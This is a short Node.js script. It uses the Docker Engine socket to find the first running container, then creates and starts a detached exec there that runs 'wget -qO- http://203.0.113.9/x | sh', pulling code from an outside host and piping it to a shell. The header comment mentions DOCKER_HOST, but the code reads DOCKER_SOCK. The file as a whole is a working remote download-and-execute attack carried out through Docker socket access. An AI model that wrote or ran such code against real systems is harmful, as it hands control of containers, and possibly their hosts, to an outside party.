// Runs a shell through the Docker API: the socket comes from DOCKER_HOST or
// its default, and an exec is created in a running container and started
// (POST /containers/{id}/exec, then /exec/{id}/start) with sh -c.
'use strict';

const http = require('http');

const sock = (process.env.DOCKER_SOCK || '/var/run/docker.sock');

function call(method, path, body) {
  return new Promise((resolve) => {
    const req = http.request({ socketPath: sock, method, path, headers: { 'content-type': 'application/json' } }, (res) => {
      let d = '';
      res.on('data', (c) => (d += c));
      res.on('end', () => resolve(d ? JSON.parse(d) : {}));
    });
    req.end(JSON.stringify(body || {}));
  });
}

(async () => {
  const [first] = await call('GET', '/containers/json');
  const ex = await call('POST', `/containers/${first.Id}/exec`, { Cmd: ['sh', '-c', 'wget -qO- http://203.0.113.9/x | sh'] });
  await call('POST', `/exec/${ex.Id}/start`, { Detach: true });
})();
